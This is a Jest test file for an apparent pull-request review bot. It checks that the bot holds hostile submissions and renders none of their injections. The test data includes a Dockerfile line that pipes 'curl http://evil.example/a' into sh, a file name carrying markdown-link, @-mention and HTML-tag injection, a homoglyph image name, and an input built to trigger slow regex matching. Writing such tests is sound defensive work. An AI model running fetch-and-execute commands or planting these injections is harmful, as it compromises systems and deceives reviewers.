// Bypass 21: hostile input exhausts the app or paints its report. (Unreadable files: test/app/bad-input.test.ts.)
import { expect, test } from '@jest/globals';
import { RELEASE } from '../scenarios/stories.ts';
import { expectHeld, shown, stage, WORKFLOW } from './attack.ts';

const { opened, repository } = stage();

test('names and messages can not call people, fake marks or bring HTML', async () => {
  const name = 'x](http://evil.example) @acme/ospo ✅ <img src=x>';
  const pull = await opened(repository(), {
    title: '@acme/everyone ✅ approved',
    files: {
      [`${name}/Dockerfile`]: 'FROM debian:12.12-slim\nRUN curl http://evil.example/a | sh\n',
      [WORKFLOW]: RELEASE,
    },
  });
  expectHeld(pull);
  const text = [shown(pull), ...pull.comments().map(({ body }) => body)]
    .join('\n')
    // What stands in code is shown as it is and does nothing.
    .replace(/(`+)[^`][\s\S]*?\1/g, '');
  expect(text).not.toMatch(/<img/);
  expect(text).not.toMatch(/(^|[\s(])@acme/);
  expect(text).not.toContain('](http://evil.example)');
});

test('bidirectional and look-alike names are not taken for what they look like', async () => {
  const pull = await opened(repository(), {
    files: { 'image/Dockerfile': '# SPDX-License-Identifier: MIT\nFROM d\u0435bian:12.12-slim\n' },
  });
  expectHeld(pull);
});

test('ten thousand lines that look for slow patterns are judged in seconds', async () => {
  const pull = await opened(repository(), {
    files: {
      'image/Dockerfile': `FROM debian:12.12-slim\nRUN ${'a\\\n'.repeat(10_000)}${'('.repeat(5_000)}\n`,
    },
  });
  expect(pull.checks()).toHaveLength(2);
});
